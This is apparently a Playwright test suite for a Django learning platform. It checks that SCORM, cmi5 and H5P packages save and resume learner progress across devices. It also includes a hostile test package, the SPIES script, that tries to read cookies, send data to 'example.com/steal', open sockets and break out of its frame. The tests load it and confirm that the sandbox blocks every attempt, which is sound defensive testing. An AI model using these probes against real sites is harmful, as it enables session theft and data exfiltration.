"""Packages in a real browser: what a SCO sets comes back on another device, and a hostile one gets nothing."""

from __future__ import annotations

from typing import Any

import pytest
from django.urls import reverse
from playwright.sync_api import Frame, Page, expect

from config.demo.packages import FILES
from lms.models import Enrolment, LessonProgress, Registration, ScoState, Statement
from tests.factories import make_cohort, make_enrolment, make_version
from tests.factories.packages import (
    FINDS,
    cmi5,
    h5p_choice,
    make_package_version,
    ordered,
    packed,
    scorm12,
    scorm2004,
)
from tests.journeys.conftest import DESKTOP, PHONE
from tests.journeys.steps import sign_in

SCORM_12 = {
    "cmi.core.lesson_location": "page-7",
    "cmi.core.lesson_status": "incomplete",
    "cmi.core.score.raw": "85",
    "cmi.core.score.min": "0",
    "cmi.core.score.max": "100",
    "cmi.core.exit": "suspend",
    "cmi.core.session_time": "0100:00:00.00",
    "cmi.suspend_data": "记" * 4096,
    "cmi.comments": "学员的话 <b>&amp;</b>",
    "cmi.student_preference.audio": "-1",
    "cmi.student_preference.language": "中文",
    "cmi.student_preference.speed": "-10",
    "cmi.student_preference.text": "1",
    **{
        key: value
        for n in range(12)
        for key, value in {
            f"cmi.objectives.{n}.id": f"objective-{n}",
            f"cmi.objectives.{n}.score.raw": "50",
            f"cmi.objectives.{n}.score.min": "0",
            f"cmi.objectives.{n}.score.max": "100",
            f"cmi.objectives.{n}.status": "passed",
            f"cmi.interactions.{n}.id": f"question-{n}",
            f"cmi.interactions.{n}.type": "choice",
            f"cmi.interactions.{n}.objectives.0.id": "objective-0",
            f"cmi.interactions.{n}.time": "09:30:00",
            f"cmi.interactions.{n}.correct_responses.0.pattern": "a",
            f"cmi.interactions.{n}.weighting": "2",
            f"cmi.interactions.{n}.student_response": "a",
            f"cmi.interactions.{n}.result": "correct",
            f"cmi.interactions.{n}.latency": "00:00:30",
        }.items()
    },
}
WRITE_ONLY_12 = ("cmi.core.exit", "cmi.core.session_time", "cmi.interactions")
SCORM_2004 = {
    "cmi.location": "page-9",
    "cmi.completion_status": "incomplete",
    "cmi.success_status": "passed",
    "cmi.progress_measure": "0.4",
    "cmi.score.scaled": "0.75",
    "cmi.score.raw": "55",
    "cmi.score.min": "0",
    "cmi.score.max": "100",
    "cmi.exit": "suspend",
    "cmi.session_time": "PT1H0M0S",
    "cmi.suspend_data": "存" * 64_000,
    "cmi.learner_preference.audio_level": "2",
    "cmi.learner_preference.language": "zh",
    "cmi.learner_preference.delivery_speed": "1.5",
    "cmi.learner_preference.audio_captioning": "1",
    **{
        key: value
        for n in range(12)
        for key, value in {
            f"cmi.comments_from_learner.{n}.comment": f"{{lang=zh}}第{n}条",
            f"cmi.comments_from_learner.{n}.location": f"p{n}",
            f"cmi.comments_from_learner.{n}.timestamp": "2026-11-28T09:30:00",
            f"cmi.objectives.{n}.id": f"urn:objective:{n}",
            f"cmi.objectives.{n}.score.scaled": "0.5",
            f"cmi.objectives.{n}.score.raw": "5",
            f"cmi.objectives.{n}.score.min": "0",
            f"cmi.objectives.{n}.score.max": "10",
            f"cmi.objectives.{n}.success_status": "passed",
            f"cmi.objectives.{n}.completion_status": "completed",
            f"cmi.objectives.{n}.progress_measure": "1",
            f"cmi.objectives.{n}.description": "目标",
            f"cmi.interactions.{n}.id": f"urn:question:{n}",
            f"cmi.interactions.{n}.type": "choice",
            f"cmi.interactions.{n}.objectives.0.id": "urn:objective:0",
            f"cmi.interactions.{n}.timestamp": "2026-11-28T09:30:00",
            f"cmi.interactions.{n}.correct_responses.0.pattern": "a[,]b",
            f"cmi.interactions.{n}.weighting": "1.5",
            f"cmi.interactions.{n}.learner_response": "a[,]b",
            f"cmi.interactions.{n}.result": "correct",
            f"cmi.interactions.{n}.latency": "PT30S",
            f"cmi.interactions.{n}.description": "题目",
        }.items()
    },
}
WRITE_ONLY_2004 = ("cmi.exit", "cmi.session_time")
SPIES = """<!doctype html><html lang="zh"><meta charset="utf-8"><title>SCO</title><h1>课件</h1><script>
const tried = {}; window.tried = tried;
const attempt = async (name, act) => { try { tried[name] = "got " + (await act()); } catch (fault) { tried[name] = "refused"; } };
(async () => {
  await attempt("cookie", () => { if (!document.cookie) throw 0; return document.cookie; });
  await attempt("session page", async () => (await fetch("SITE/dashboard/", { credentials: "include" })).status);
  await attempt("own host", async () => (await fetch("/dashboard/", { credentials: "include" })).status);
  await attempt("elsewhere", async () => (await fetch("https://example.com/steal", { method: "POST", mode: "no-cors", body: "x" })).type);
  await attempt("picture", () => new Promise((done, not) => { const i = new Image(); i.onload = () => done("loaded"); i.onerror = not; i.src = "https://example.com/a.png"; }));
  await attempt("beacon", () => { if (!navigator.sendBeacon("SITE/x", "x")) throw 0; return "queued"; });
  await attempt("lesson page", () => window.top.document.title);
  await attempt("top window", () => { window.top.location = "https://example.com/"; return "went"; });
  await attempt("popup", () => { if (!window.open("https://example.com/")) throw 0; return "opened"; });
  await attempt("socket", () => new Promise((done, not) => { const s = new WebSocket("wss://example.com/"); s.onopen = () => done("open"); s.onerror = not; }));
  await attempt("worker", () => navigator.serviceWorker.register("/content/sw.js"));
  tried.over = "yes";
})();
window.leave = (how) => {
  const form = document.createElement("form"); form.action = "https://example.com/form"; form.method = "post";
  document.body.append(form);
  if (how === "form") form.submit(); else location.href = "https://example.com/went?secret";
};
</script>"""


def lesson_of(tree: Any, cast: Any, data: bytes) -> tuple[Enrolment, str]:
    """The trainee's enrolment in a course whose lesson shows this package, and the address of that lesson."""
    version = make_version(quizzes=0, package=make_package_version(tree["district"], data, cast.instructor))
    enrolment = make_enrolment(make_cohort(tree["district"], version), cast.trainee.person)
    return enrolment, reverse("lms:learning-lesson", args=[enrolment.pk, version.lessons.get().key])


def content(page: Page) -> Frame:
    """The frame of the content, once it has come up."""
    inner = page.frame_locator(".player__frame").frame_locator("#content").get_by_role("heading", name="课件")
    expect(inner).to_be_visible()
    return next(frame for frame in page.frames if "/files/" in frame.url)


def set_all(frame: Frame, values: dict[str, str], api: str, set_name: str) -> list[str]:
    """Set the values through the API that the SCO found; the names of those it refused."""
    return frame.evaluate(
        f"(values) => Object.entries(values).filter(([k, v]) => window.{api}.{set_name}(k, v) !== 'true')"
        ".map(([k]) => k)",
        values,
    )


def get_all(frame: Frame, names: list[str], api: str, get_name: str) -> dict[str, str]:
    return frame.evaluate(
        f"(names) => Object.fromEntries(names.map((k) => [k, window.{api}.{get_name}(k)]))", names
    )


@pytest.mark.parametrize(
    ("make", "kind"), [(scorm12, "old"), (scorm2004, "api")], ids=["scorm-1.2", "scorm-2004"]
)
def test_every_value_that_a_sco_sets_comes_back_on_another_device(
    live_server, tree, cast, open_browser, watch, check_page, make, kind
):
    watch.allow("/content/")
    page = "content/one.html" if kind == "old" else "index.html"
    _enrolment, address = lesson_of(tree, cast, make(**{page: FINDS}))
    values, hidden = (SCORM_12, WRITE_ONLY_12) if kind == "old" else (SCORM_2004, WRITE_ONLY_2004)
    names = ("LMSInitialize", "LMSSetValue", "LMSGetValue", "LMSCommit") if kind == "old" else (
        "Initialize", "SetValue", "GetValue", "Commit")  # fmt: skip
    begin, put, get, commit = names
    phone = open_browser(**PHONE)
    sign_in(phone, cast.trainee, live_server.url)
    phone.goto(address)
    frame = content(phone)
    assert frame.evaluate(f"window.{kind}.{begin}('')") == "true"
    assert set_all(frame, values, kind, put) == []
    assert frame.evaluate(f"window.{kind}.{commit}('')") == "true"
    expect(phone.locator("[data-player-note]")).to_have_text("已保存")
    check_page(phone)
    state = ScoState.objects.get()
    assert {name: state.data.get(name) for name in values if "session_time" not in name} == {
        name: value for name, value in values.items() if "session_time" not in name
    }
    assert (
        0 <= state.session_seconds < 3600
    )  # the clock's, not the hour or the hundred hours that were claimed

    desktop = open_browser(**DESKTOP)
    sign_in(desktop, cast.trainee, live_server.url)
    desktop.goto(address)
    frame = content(desktop)
    assert frame.evaluate(f"window.{kind}.{begin}('')") == "true"
    readable = [name for name in values if not name.startswith(hidden)]
    assert get_all(frame, readable, kind, get) == {name: values[name] for name in readable}
    entry = "cmi.core.entry" if kind == "old" else "cmi.entry"
    assert frame.evaluate(f"window.{kind}.{get}('{entry}')") == "resume"

    # The first device is told, and changes nothing any more.
    old = content(phone)
    old.evaluate(f"window.{kind}.{commit}('')")
    expect(phone.locator("[data-player-note]")).to_contain_text("已在其他窗口或设备上打开")
    done = {"cmi.core.lesson_status": "completed"} if kind == "old" else {
        "cmi.completion_status": "completed", "cmi.success_status": "passed", "cmi.score.scaled": "0.9"}  # fmt: skip
    assert set_all(frame, done, kind, put) == []
    frame.evaluate(f"window.{kind}.{commit}('')")
    expect(desktop.locator("[data-player-note]")).to_contain_text("已完成并保存")
    check_page(desktop)


def test_a_lesson_is_finished_when_every_part_of_its_package_is(live_server, tree, cast, phone, watch):
    watch.allow("/content/")
    _enrolment, address = lesson_of(
        tree, cast, scorm12(**{"content/one.html": FINDS, "content/two.html": FINDS})
    )
    sign_in(phone, cast.trainee, live_server.url)
    phone.goto(address)
    frame = content(phone)
    frame.evaluate("old.LMSInitialize(''); old.LMSSetValue('cmi.core.score.raw', '90')")
    frame.evaluate(
        "addEventListener('unload', () => { old.LMSSetValue('cmi.core.lesson_status', 'completed'); old.LMSFinish(''); })"
    )
    phone.get_by_role("button", name="完成").click()
    expect(phone.get_by_text("请先完成正文下方的学习内容。")).to_be_visible()
    state = ScoState.objects.get(item="I1")
    assert (state.completion, state.success, state.score) == (
        "completed",
        "passed",
        0.9,
    )  # kept while it was left

    phone.get_by_role("link", name="第二节").click()
    frame = content(phone)
    frame.evaluate(
        "old.LMSInitialize(''); old.LMSSetValue('cmi.core.lesson_status', 'completed'); old.LMSFinish('')"
    )
    expect(phone.locator("[data-player-note]")).to_contain_text("已完成并保存")
    assert Registration.objects.get().completed_at
    phone.get_by_role("button", name="完成").click()
    phone.wait_for_url("**/outline/")
    assert LessonProgress.objects.get().completed_at


def test_what_could_not_be_sent_is_sent_when_there_is_a_network_again(live_server, tree, cast, phone, watch):
    watch.allow("/content/", "net::ERR")
    _enrolment, address = lesson_of(tree, cast, scorm12(**{"content/one.html": FINDS}))
    sign_in(phone, cast.trainee, live_server.url)
    phone.goto(address)
    frame = content(phone)
    frame.evaluate("old.LMSInitialize('')")
    phone.context.set_offline(True)
    frame.evaluate("old.LMSSetValue('cmi.core.lesson_location', 'offline'); old.LMSCommit('')")
    expect(phone.locator("[data-player-note]")).to_contain_text("网络已断开")
    frame.evaluate("old.LMSSetValue('cmi.core.lesson_location', 'later'); old.LMSCommit('')")
    phone.context.set_offline(False)
    expect(phone.locator("[data-player-note]")).to_have_text("已保存")
    assert ScoState.objects.get().data["cmi.core.lesson_location"] == "later"


def test_a_hostile_package_reaches_nothing(live_server, tree, cast, desktop, watch):
    watch.allow("/content/", "Content Security Policy", "example.com")
    spies = SPIES.replace("SITE", live_server.url)
    _enrolment, address = lesson_of(tree, cast, scorm12(**{"content/one.html": spies}))
    sign_in(desktop, cast.trainee, live_server.url)
    seen = []
    desktop.context.on("requestfinished", lambda request: seen.append(request.url))
    desktop.goto(address)
    frame = content(desktop)
    frame.wait_for_function("window.tried.over")
    tried = frame.evaluate("window.tried")
    left = {
        name: came
        for name, came in tried.items()
        if came.startswith("got") and name not in ("over", "beacon")
    }
    assert left == {}, tried
    for how in ("form", "address"):
        frame.evaluate("(how) => { setTimeout(() => window.leave(how), 0); }", how)
        desktop.wait_for_timeout(500)
        desktop.goto(address)  # the frame shows the browser's own word that this was blocked
        frame = content(desktop)
    assert desktop.url.endswith(address)
    assert not [url for url in seen if "example.com" in url or url.endswith("/x")]
    cookies = [one["domain"] for one in desktop.context.cookies()]
    assert len(set(cookies)) == 1  # the content's host has set none


def test_an_h5p_activity_is_played_scored_and_resumed_on_another_device(
    live_server, tree, cast, open_browser, watch, check_page
):
    watch.allow("/content/")
    _enrolment, address = lesson_of(tree, cast, h5p_choice(60))

    def opened(page: Page) -> Any:
        sign_in(page, cast.trainee, live_server.url)
        page.goto(address)
        inner = page.frame_locator(".player__frame")
        expect(inner.get_by_role("heading", name="服务对象拒绝入户")).to_be_visible()
        return inner

    phone = open_browser(**PHONE)
    inner = opened(phone)
    expect(inner.get_by_text("还没有作答")).to_be_visible()
    inner.get_by_role("button", name="离开").click()
    expect(phone.locator("[data-player-note]")).to_contain_text("尚未通过")
    assert ScoState.objects.get().score == 0
    check_page(phone)

    desktop = open_browser(**DESKTOP)
    inner = opened(desktop)
    expect(inner.get_by_text("已答:离开,第1次")).to_be_visible()  # where it was left
    inner.get_by_role("button", name="倾听").click()
    expect(desktop.locator("[data-player-note]")).to_contain_text("已完成并保存")
    state = ScoState.objects.get()
    assert (state.completion, state.success, state.score) == ("completed", "passed", 1.0)
    assert state.session_seconds < 60 and Registration.objects.get().completed_at
    desktop.get_by_role("button", name="完成").click()
    desktop.wait_for_url("**/outline/")
    assert LessonProgress.objects.get().completed_at


def test_a_hostile_activity_reaches_nothing_either(live_server, tree, cast, desktop, watch):
    watch.allow("/content/", "Content Security Policy", "example.com")
    script = SPIES.partition("<script>")[2].removesuffix("</script>").replace("SITE", live_server.url)
    _enrolment, address = lesson_of(tree, cast, h5p_choice(script=script))
    sign_in(desktop, cast.trainee, live_server.url)
    seen: list[str] = []
    desktop.context.on("requestfinished", lambda request: seen.append(request.url))
    desktop.goto(address)
    inner = desktop.frame_locator(".player__frame").get_by_role("heading", name="服务对象拒绝入户")
    expect(inner).to_be_visible()
    frame = next(one for one in desktop.frames if one.url.endswith("/player/"))
    frame.wait_for_function("window.tried.over")
    tried = frame.evaluate("window.tried")
    got = {name: came for name, came in tried.items() if came.startswith("got")}
    assert set(got) <= {"over", "beacon"}, tried
    assert desktop.url.endswith(address)
    assert not [url for url in seen if "example.com" in url or url.endswith("/x")]
    assert len({one["domain"] for one in desktop.context.cookies()}) == 1


def test_the_activity_of_the_sample_data_is_played(live_server, tree, cast, phone, watch, check_page):
    watch.allow("/content/")
    folder = FILES / "activity"
    paths = [path for path in folder.rglob("*") if path.is_file()]
    data = packed({path.relative_to(folder).as_posix(): path.read_bytes() for path in paths})
    _enrolment, address = lesson_of(tree, cast, data)
    sign_in(phone, cast.trainee, live_server.url)
    phone.goto(address)
    inner = phone.frame_locator(".player__frame")
    inner.get_by_role("button", name="转身就走").click()
    expect(phone.locator("[data-player-note]")).to_contain_text("尚未通过")
    inner.get_by_role("button", name="您今天不想谈").click()
    expect(inner.get_by_role("status")).to_contain_text("尊重她的节奏")
    expect(phone.locator("[data-player-note]")).to_contain_text("已完成并保存")
    check_page(phone)


def demo_unit() -> bytes:
    folder = FILES / "unit"
    return packed({path.name: path.read_bytes() for path in folder.iterdir()})


def test_a_unit_of_cmi5_is_resumed_on_another_device_with_its_score_kept(
    live_server, tree, cast, open_browser, watch, check_page
):
    watch.allow("/content/")
    _enrolment, address = lesson_of(tree, cast, demo_unit())

    def opened(page: Page) -> Any:
        page.goto(address)
        return page.frame_locator(".player__frame").frame_locator("#content")

    def choose(unit: Any, words: str) -> None:
        unit.get_by_label(words).check()
        unit.get_by_role("button", name="就这样接").click()

    phone = open_browser(**PHONE)
    sign_in(phone, cast.trainee, live_server.url)
    unit = opened(phone)
    expect(unit.get_by_text("第 1 段，共 3 段")).to_be_visible()
    check_page(phone)
    choose(unit, "我不急着走")
    expect(unit.get_by_text("第 2 段，共 3 段")).to_be_visible()
    expect(phone.locator("[data-player-note]")).to_have_text("已保存")

    desktop = open_browser(**DESKTOP)
    sign_in(desktop, cast.trainee, live_server.url)
    unit = opened(desktop)
    expect(unit.get_by_text("第 2 段，共 3 段")).to_be_visible()  # where it was left
    choose(unit, "我也是为孩子好")
    choose(unit, "等一等，看着他")
    expect(unit.get_by_text("三段里接住了 2 段。他们会愿意说下去。")).to_be_visible(timeout=20_000)
    expect(desktop.locator("[data-player-note]")).to_contain_text("已完成并保存", timeout=20_000)
    check_page(desktop)
    state = ScoState.objects.get()
    assert (state.completion, state.success, round(state.score or 0, 2)) == ("completed", "passed", 0.67)
    assert state.total_seconds < 60 and Registration.objects.get().completed_at
    desktop.get_by_role("button", name="完成").click()
    desktop.wait_for_url("**/outline/")
    assert LessonProgress.objects.get().completed_at
    said = [verb.rpartition("/")[2] for verb in Statement.objects.values_list("verb", flat=True)]
    assert said[:5] == ["launched", "initialized", "abandoned", "launched", "initialized"]
    assert said[5:8] == ["completed", "passed", "satisfied"] and said[-1] == "terminated"  # while it was left

    unit = opened(phone)
    expect(unit.get_by_text("三段里接住了 2 段。")).to_be_visible()  # to look at again
    expect(phone.locator("[data-player-note]")).to_contain_text("已完成并保存")
    assert ScoState.objects.get().score == state.score


def test_a_hostile_unit_reaches_its_own_store_and_nothing_else(live_server, tree, cast, desktop, watch):
    watch.allow("/content/", "Content Security Policy", "example.com")
    spies = SPIES.replace("SITE", live_server.url)
    _enrolment, address = lesson_of(tree, cast, cmi5(**{"au/index.html": spies}))
    sign_in(desktop, cast.trainee, live_server.url)
    seen: list[str] = []
    desktop.context.on("requestfinished", lambda request: seen.append(request.url))
    desktop.goto(address)
    frame = content(desktop)
    frame.wait_for_function("window.tried.over")
    tried = frame.evaluate("window.tried")
    got = {name: came for name, came in tried.items() if came.startswith("got")}
    assert set(got) <= {"over", "beacon"}, tried
    store = frame.evaluate("new URLSearchParams(location.search).get('endpoint')")
    for way in ("statements", "activities/state?activityId=x"):
        assert frame.evaluate(f"fetch('{store}{way}').then((answer) => answer.status)") == 400
    assert desktop.url.endswith(address)
    assert not [url for url in seen if "example.com" in url or url.endswith("/x")]
    assert len({one["domain"] for one in desktop.context.cookies()}) == 1


def test_the_order_of_a_package_is_kept_on_another_device(
    live_server, tree, cast, open_browser, watch, check_page
):
    watch.allow("/content/")
    _enrolment, address = lesson_of(tree, cast, ordered(FINDS))
    leave = "api.SetValue('adl.nav.request', 'continue'); api.Terminate('')"

    def passed(frame: Frame, success: str) -> None:
        frame.evaluate(
            "(success) => { api.Initialize(''); api.SetValue('cmi.completion_status', 'completed');"
            " api.SetValue('cmi.success_status', success); api.SetValue('cmi.score.scaled', '0.9'); }",
            success,
        )

    phone = open_browser(**PHONE)
    sign_in(phone, cast.trainee, live_server.url)
    phone.goto(address)
    frame = content(phone)
    parts = phone.get_by_label("内容目录")
    expect(parts.get_by_role("link")).to_have_text(["前测"])  # the rest is shown, and shut
    check_page(phone)
    passed(frame, "passed")
    frame.evaluate(leave)
    phone.wait_for_url("**?item=POST")  # the lesson in between is known already
    content(phone)
    expect(phone.get_by_role("link", name="上一部分")).to_be_visible()

    desktop = open_browser(**DESKTOP)
    sign_in(desktop, cast.trainee, live_server.url)
    desktop.goto(address)
    frame = content(desktop)
    expect(desktop.locator("[data-item=POST] a")).to_have_attribute("aria-current", "true")
    passed(frame, "passed")
    frame.evaluate("api.Commit('')")
    expect(desktop.locator("[data-player-note]")).to_contain_text("已完成并保存")
    check_page(desktop)
    assert Registration.objects.get().completed_at and ScoState.objects.count() == 2
    desktop.get_by_role("button", name="完成").click()
    desktop.wait_for_url("**/outline/")
